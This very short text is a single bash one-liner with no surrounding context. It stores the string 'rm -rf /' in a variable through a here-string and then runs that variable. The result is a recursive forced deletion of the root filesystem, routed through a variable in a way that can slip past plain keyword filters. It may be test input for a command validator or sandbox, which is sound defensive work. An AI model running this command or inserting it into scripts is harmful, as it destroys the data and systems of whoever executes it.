read -r c <<< "rm -rf /"; $c
